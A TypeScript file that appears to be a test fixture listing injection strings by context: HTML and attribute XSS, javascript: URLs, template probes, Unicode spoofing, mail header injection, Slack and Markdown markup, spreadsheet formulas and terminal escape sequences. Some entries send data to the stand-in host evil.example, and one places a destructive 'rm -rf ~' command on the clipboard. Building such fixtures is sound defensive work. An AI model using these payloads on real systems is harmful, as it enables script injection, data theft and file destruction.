/**
 * Texts of data, specs and people that try to be more than text, by what they try. Nothing here is secret or live:
 * `evil.example` is reserved.
 */
export const HOSTILE: readonly (readonly [what: string, text: string])[] = [
  // HTML
  ['an element', '<script>alert(1)</script>'],
  ['an element in upper case', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
  ['an element that is not closed', '<img src=x onerror=alert(1)'],
  ['an element within an element', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['an element split by NUL', '<scr\0ipt>alert(1)</scr\0ipt>'],
  ['an end of the title', '</title><script>alert(1)</script>'],
  ['an end of the style', '</style><script>alert(1)</script>'],
  ['an end of the text area', '</textarea><script>alert(1)</script>'],
  ['an end of the table', '</td></tr></table><form action=https://evil.example><input name=token>'],
  ['a comment', '--><script>alert(1)</script><!--'],
  ['a section of raw text', ']]><script>alert(1)</script><![CDATA['],
  ['another base', '<base href="https://evil.example/">'],
  ['a redirection', '<meta http-equiv=refresh content="0;url=https://evil.example">'],
  ['a frame', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['a picture that tells it was seen', '<img src="https://evil.example/seen.gif">'],
  ['an SVG that runs', '<svg/onload=alert(1)>'],
  ['an SVG that animates', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>'],
  ['MathML', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'],
  ['entities', '&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;lt;'],
  // Attributes
  ['an end of a double-quoted attribute', '" onmouseover="alert(1)'],
  ['an end of a single-quoted attribute', "' onfocus='alert(1)' autofocus='"],
  ['an end of an attribute and of its element', '"><script>alert(1)</script>'],
  ['a handler after a backtick', '` onload=`alert(1)'],
  ['a style', '" style="background:url(https://evil.example)'],
  // Addresses and templates
  ['a script address', 'javascript:alert(document.cookie)'],
  ['a script address with space', ' \tjava\nscript:alert(1)'],
  ['a data address', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
  ['braces of templates', '{{constructor.constructor("alert(1)")()}} ${7*7} <%= 7*7 %> #{7*7}'],
  // Other ways to write
  ['a reversed order', 'report\u202Egpj.exe'],
  ['an isolated order', '\u2066approved\u2069 \u2067rejected\u2069'],
  ['letters of full width', '＜script＞alert(1)＜/script＞'],
  ['half of a character', 'a\uD800b'],
  ['the end of a line of other alphabets', 'one\u2028two\u2029three\u0085four'],
  // Headers
  ['another header', 'drift\r\nBcc: everybody@evil.example'],
  ['another header by one break', 'drift\nContent-Type: text/html'],
  ['a body', 'drift\r\n\r\n<script>alert(1)</script>'],
  ['an encoded word', '=?utf-8?q?drift=0D=0ABcc:_everybody@evil.example?='],
  // Slack
  ['a call of everybody', '<!channel> <!here> <!everyone> <!subteam^S123|team>'],
  ['a mention', '<@U012AB3CD> <#C012AB3CD|general>'],
  ['a link with another face', '<https://evil.example|https://perennial.example>'],
  ['mark-up of messages', '*bold* _italic_ ~struck~ `code` ```block``` >quote'],
  // Markdown
  ['a link of Markdown', '[click](javascript:alert(1)) ![seen](https://evil.example/seen.gif)'],
  ['a heading', '# Approved by everybody'],
  ['a fence', '~~~'],
  ['a fence of backticks', '```html\n<script>alert(1)</script>\n```'],
  ['a cell of a table', 'good | pass | approved |\n| --- | --- |'],
  ['a reference', '[id]: https://evil.example "title"'],
  ['a rule', '***'],
  ['a list', '1. one'],
  // Spreadsheets
  ['a formula', '=HYPERLINK("https://evil.example?x="&A1,"click")'],
  ['a formula by sign', "+1+cmd|' /C calc'!A0"],
  // Terminals
  ['colours', '\u001b[31mred\u001b[0m'],
  ['a cleared screen', '\u001b[2J\u001b[H'],
  ['another window title', '\u001b]0;owned\u0007'],
  ['the clipboard', '\u001b]52;c;cm0gLXJmIH4=\u0007'],
  ['a link of terminals', '\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\'],
  ['a control sequence in one byte', '\u009b31mred\u009b0m'],
  ['a line over the one before', 'fail\rpass'],
  ['erased letters', 'fail\b\b\b\bpass\u007f'],
  ['a row more', 'fail\nchampion  3  pass'],
];
